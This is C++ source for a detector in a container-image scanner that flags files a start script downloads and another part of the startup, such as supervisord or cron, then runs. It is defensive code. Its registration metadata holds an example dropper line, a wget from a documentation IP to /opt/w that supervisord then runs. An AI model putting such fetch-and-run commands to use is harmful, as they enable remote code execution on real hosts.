// A file that one start script fetches and something else of the start runs (D02): another script, a supervisor's
// program, a cron job; and archives from which the last command of the script must have come, because the image holds
// no such program.
//
// Flows within one script are fetch_to_shell's. Here the whole start is at hand, and what the image holds.
#include <algorithm>
#include <array>
#include <set>

#include "detect/assess.hpp"
#include "detect/droppers/main_program.hpp"
#include "detect/image_support.hpp"
#include "detect/shell/script_facts.hpp"
#include "detect/shell/shell_support.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_fetches = 512;
constexpr std::string_view k_listed = "the addresses in ";

constexpr std::array<RuleRow, 1> k_rows{{
    {"D02", EvidenceClass::strong, model::Severity::high, 85, "Fetched file that is run", "T1105,T1059.004",
     "Put the program into the image at build time, pinned by digest."},
}};

// Something that a script or command of the start brings.
struct Fetch {
  PlacedEvidence place;
  std::string path;  // canonical, or a folder
  std::string source;
  std::string program;  // the last command of the same script
  bool folder = false;
  bool open = false;  // what it brings is said elsewhere: in a list, a file of options
};

std::string joined(const std::vector<std::string>& chain) {
  std::string text;
  for (const std::string& part : chain) text += (text.empty() ? "" : " > ") + part;
  return text;
}

bool is_local(const ShellFlow& flow) {
  return !flow.urls.empty() && std::all_of(flow.urls.begin(), flow.urls.end(),
                                           [](const std::string& url) { return is_loopback(host_of(url)); });
}

class Fetches {
 public:
  explicit Fetches(const ImageContext& context) : m_context(context) {
    for (const StartText& text : context.start.texts()) {
      PlacedEvidence place;
      if (text.file.layer != layers::k_none)
        place = place_of(context, text.file);
      else
        place.visibility = model::Visibility::config;
      place.path = text.path;
      place.reach = Reach::start;
      place.chain = text.chain;
      collect(facts_of(text), place, text.line);
    }
    for (const StartNode& node : context.start.nodes()) {
      const auto record = context.image.record_at(k_script_section, node.path);
      if (!record || is_as_shipped(context.ownership, node.file)) continue;
      const auto facts = decode_shell_facts(record->data);
      if (facts.ok()) collect(facts.value(), place_of(context, node.file), 1);
    }
  }
  const std::vector<Fetch>& all() const { return m_all; }

 private:
  void collect(const ShellFacts& facts, const PlacedEvidence& place, std::uint32_t first_line) {
    // What the same script runs is known already; what is saved as a file is no folder as well.
    std::set<std::string_view> known, files;
    for (const ShellFlow& flow : facts.flows) {
      if (flow.kind == FlowKind::fetch_to_file_run) known.insert(flow.path);
      if (flow.kind == FlowKind::fetch_to_file && flow.detail != "tree") files.insert(flow.path);
    }
    for (const ShellFlow& flow : facts.flows) {
      if (flow.kind != FlowKind::fetch_to_file || m_all.size() >= k_most_fetches || is_local(flow)) continue;
      if (known.contains(flow.path)) continue;
      const bool folder = flow.detail == "tree";
      Fetch fetch;
      fetch.place = place;
      fetch.place.evidence.line = first_line + (flow.line == 0 ? 0 : flow.line - 1);
      fetch.source = flow.tool + (flow.urls.empty() ? "" : " " + flow.urls.front());
      fetch.folder = folder;
      fetch.open = !flow.urls.empty() && flow.urls.front().starts_with(k_listed);
      if (is_resolved(flow.path)) {
        const bool rooted = flow.path.starts_with('/');
        const std::string whole = rooted ? flow.path : m_context.image.config().working_dir + "/" + flow.path;
        fetch.path = layers::canonical_path(whole).path;
      }
      if (folder && !files.contains(flow.path)) fetch.program = main_program(facts);
      m_all.push_back(std::move(fetch));
    }
  }

  const ImageContext& m_context;
  std::vector<Fetch> m_all;
};

class FetchedThenStarted final : public Detector {
 public:
  void image(const ImageContext& context, ImageEvidence& out) const override {
    const Fetches fetches(context);
    for (const Fetch& fetch : fetches.all()) {
      const std::string by = started(context, fetch);
      if (by.empty()) continue;
      PlacedEvidence found = fetch.place;
      const std::uint32_t line = found.evidence.line;
      found.evidence = evidence_of(k_rows[0], fetch.source + " to /" + fetch.path + ", then run: " + by);
      found.evidence.cls = EvidenceClass::strong;
      found.evidence.line = line;
      found.evidence.values.emplace_back(k_payload_key, k_payload_absent);
      out.add(std::move(found));
    }
  }

 private:
  // How the start runs what was fetched, "" when it does not.
  static std::string started(const ImageContext& context, const Fetch& fetch) {
    const auto is_it = [&](const std::string& path) {
      if (fetch.path.empty() || path.empty()) return false;
      return path == fetch.path ||
             (fetch.folder && path.size() > fetch.path.size() && path.starts_with(fetch.path + "/"));
    };
    for (const StartNode& node : context.start.missing()) {
      const bool same_script = fetch.open && calls_from(node, fetch.place);
      if (is_it(node.path) || same_script) return joined(node.chain) + " > /" + node.path;
    }
    // One that the image holds, and that the start replaces.
    if (!fetch.folder)
      for (const StartNode& node : context.start.nodes())
        if (is_it(node.path) && is_program(context.image.entry(node.file))) return joined(node.chain);
    if (fetch.folder && lacks_program(context, fetch.program))
      return fetch.program + ", which the image does not hold";
    return {};
  }

  // The last step of the way there is a line of the same file.
  static bool calls_from(const StartNode& node, const PlacedEvidence& place) {
    if (node.chain.empty()) return false;
    const std::string& last = node.chain.back();
    return last.starts_with("/" + place.path + ":") || last == "/" + place.path;
  }
};

const util::Registered<FetchedThenStarted> registered{{
    .id = "fetched-then-started",
    .version = 1,
    .summary = "files that a start script fetches and another part of the start runs",
    .example = "wget -O /opt/w http://192.0.2.1/w in /entry.sh, command=/opt/w in /etc/supervisord.conf",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
